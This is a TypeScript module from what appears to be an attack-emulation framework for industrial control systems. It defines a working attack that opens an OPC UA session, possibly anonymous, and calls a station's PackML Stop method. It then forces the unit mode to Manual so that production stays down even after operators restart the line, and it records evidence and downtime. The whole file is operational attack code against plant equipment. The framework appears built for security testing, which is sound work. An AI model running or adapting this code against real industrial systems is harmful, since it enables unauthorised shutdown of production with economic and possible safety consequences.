/**
 * Manipulation of control on OPC UA: stop the station and switch its unit mode to Manual
 * (PackML SetMode). In Manual the station no longer follows the line's automatic start, so
 * production stays down even when the operators restart the line.
 */
import { T } from '../techniques.ts';
import type { Attack } from '../types.ts';
import { before, restore, trail, watch } from './common.ts';

/** PackTags unit mode Manual */
const MANUAL = 3;

export const opcuaManualMode: Attack = {
  id: 'opcua-manual-mode',
  title: 'OPC UA unit mode Manual: stop the station and force it out of automatic production',
  techniques: [T.manipulationOfControl, T.unauthorizedCommandMessage],
  face: 'opcua',
  preconditions: ['a session: anonymous, or an account the attacker holds', 'the station\'s node ids (opcua-browse)'],
  steps: ['open a session', 'call <station>.PackML.Stop and wait for Stopped', 'call <station>.PackML.SetMode(3 Manual)', 'watch the station'],
  expectedImpact: 'the station leaves automatic production: it stays down through a line restart until an operator switches it back to Production',
  async run(ctx) {
    // the client library loads on demand, so `attack list` answers at once
    const { callMethod, nodeOf, openSession, reason, untilModeMayChange } = await import('../clients/opcua.ts');
    const evidence: string[] = [];
    const was = await before(ctx);
    const f = await openSession(ctx, evidence);
    let status = 'no session';
    if (f !== null) {
      try {
        const stop = await callMethod(f, nodeOf(f, `${ctx.station}.PackML`), nodeOf(f, `${ctx.station}.PackML.Stop`));
        evidence.push(`OPC UA: call ${ctx.station}.PackML.Stop → ${stop}`);
        if (stop === 'Good' && !(await untilModeMayChange(f, ctx.station, 15_000))) evidence.push(`OPC UA: ${ctx.station} did not reach Stopped in 15 s`);
        status = await callMethod(f, nodeOf(f, `${ctx.station}.PackML`), nodeOf(f, `${ctx.station}.PackML.SetMode`), [MANUAL]);
        evidence.push(`OPC UA: call ${ctx.station}.PackML.SetMode(${MANUAL}) → ${status}`);
      } catch (e) {
        status = reason(e);
        evidence.push(`OPC UA: ${status}`);
      } finally {
        await f.close();
      }
    }
    const w = await watch(ctx, status === 'Good' ? ctx.watchMs : 0);
    await trail(ctx, evidence, status !== 'Good');
    const manual = w.last !== null ? w.last.mode === 'Manual' : status === 'Good';
    return {
      outcome: manual ? 'succeeded' : 'blocked',
      evidence,
      impact: { modeBefore: was?.mode ?? null, modeAfter: w.last?.mode ?? null, stateAfter: w.last?.state ?? null, downtimeS: w.downtimeS, watchedS: w.watchedS },
    };
  },
  cleanup: restore,
};
